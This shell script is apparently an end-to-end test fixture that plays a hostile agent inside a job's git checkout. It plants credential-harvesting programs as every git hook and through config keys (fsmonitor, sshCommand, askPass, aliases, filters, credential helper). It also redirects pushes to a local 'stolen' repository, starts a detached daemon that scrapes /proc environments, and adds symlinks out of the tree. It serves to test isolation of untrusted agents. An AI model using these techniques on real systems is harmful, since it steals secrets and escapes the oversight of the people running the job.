#!/bin/sh
# A hostile agent (tests/e2e/test_hostile_git.py). Run by a job, in its checkout, it plants in
# the checkout's .git, in its HOME and in the tree everything that makes git run a program,
# points the remote elsewhere, leaves a daemon, and makes a change. Every program it plants
# writes what it can reach (its environment, its parent's, the worker's private files) to
# LOOT/ran-NAME. Usage: hostile_git_agent.sh LOOT [wait]  (wait: hold until LOOT/go exists)
set -eu
L="$1"
W="$(pwd)"
# Never outside a job: a loot directory, a fresh clone with an origin, a HOME of the job's own.
test -d "$L" && test -f "$W/.git/HEAD" && git config --get remote.origin.url > /dev/null
test -n "$HOME" && test "$HOME" != "$(getent passwd "$(id -u)" | cut -d: -f6)"
ORIGIN="$(git config --get remote.origin.url)"
EVIL="$L/evil"
{
  echo '#!/bin/sh'
  echo 'name="${1:-$(basename "$0")}"'
  echo '{ echo "ran: $0 $*"; env; tr "\0" "\n" < /proc/$PPID/environ'
  echo "  cat \"$W\"/../*.private/*/* \"$W\"/../*.private/* 2> /dev/null"
  echo "} >> \"$L/ran-\$name\" 2>&1"
  echo 'case "${2:-}" in filter) exec cat ;; esac'
  echo 'exit 0'
} > "$EVIL"
chmod +x "$EVIL"

mkdir -p "$W/.git/hooks" "$L/hookspath" "$W/.git/info"
for hook in applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit \
  prepare-commit-msg commit-msg post-commit pre-rebase post-checkout post-merge pre-push \
  pre-receive update proc-receive post-receive post-update reference-transaction \
  push-to-checkout pre-auto-gc post-rewrite sendemail-validate fsmonitor-watchman \
  post-index-change p4-changelist p4-prepare-changelist p4-post-changelist p4-pre-submit; do
  cp "$EVIL" "$W/.git/hooks/$hook"
  cp "$EVIL" "$L/hookspath/$hook"
done

# Config that runs programs or sends the push elsewhere: the repository's, an included file,
# and HOME's (global).
{
  printf '[core]\n\thooksPath = %s\n\tfsmonitor = %s\n' "$L/hookspath" "$EVIL"
  printf '\tsshCommand = %s sshcommand\n\tpager = %s pager\n' "$EVIL" "$EVIL"
  printf '\taskPass = %s askpass\n\tgitProxy = %s gitproxy\n' "$EVIL" "$EVIL"
  printf '[alias]\n\tadd = !%s alias-add\n\tcommit = !%s alias-commit\n' "$EVIL" "$EVIL"
  printf '\tpush = !%s alias-push\n\tdiff = !%s alias-diff\n' "$EVIL" "$EVIL"
  printf '[filter "evil"]\n\tclean = %s filter-clean filter\n' "$EVIL"
  printf '\tsmudge = %s filter-smudge filter\n\trequired = true\n' "$EVIL"
  printf '[diff "evil"]\n\ttextconv = %s textconv filter\n' "$EVIL"
  printf '\tcommand = %s diff-command\n' "$EVIL"
  printf '[diff]\n\texternal = %s diff-external\n' "$EVIL"
  printf '[credential]\n\thelper = !%s credential-helper\n' "$EVIL"
  printf '[remote "origin"]\n\tpushurl = file://%s/stolen.git\n' "$L"
  printf '\treceivepack = %s receivepack\n' "$EVIL"
  printf '[url "file://%s/stolen.git"]\n\tinsteadOf = %s\n' "$L" "$ORIGIN"
} > "$L/evil.config"
git config --file "$W/.git/config" include.path "$L/evil.config"
cat "$L/evil.config" >> "$W/.git/config"
mkdir -p "$HOME/.config/git"
cp "$L/evil.config" "$HOME/.gitconfig"
cp "$L/evil.config" "$HOME/.config/git/config"
echo "* filter=evil diff=evil" > "$HOME/.config/git/attributes"
echo "* filter=evil diff=evil" > "$W/.git/info/attributes"
git init -q --bare "$L/stolen.git"

# A daemon (out of the agent's process group) that keeps looking for the credential.
setsid sh -c 'echo $$ > "$0/daemon.pid"
  while :; do
    cat "$1"/../*.private/*/* "$1"/../*.private/* >> "$0/watched" 2> /dev/null
    for e in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
      tr "\0" "\n" < "$e" >> "$0/watched" 2> /dev/null
    done
    sleep 0.05
  done' "$L" "$W" < /dev/null > /dev/null 2>&1 &
while [ ! -s "$L/daemon.pid" ]; do sleep 0.01; done

# The change: a new file, an edit, attributes naming the evil driver, links out of the tree.
echo "hostile change" > change.txt
echo "edited" >> README.md
echo "* filter=evil diff=evil" > .gitattributes
ln -s /etc/hostname hostname-link
ln -s "$W/.." workspace-link
echo "agent done"
if [ "${2:-}" = wait ]; then
  while [ ! -e "$L/go" ]; do sleep 0.05; done
fi
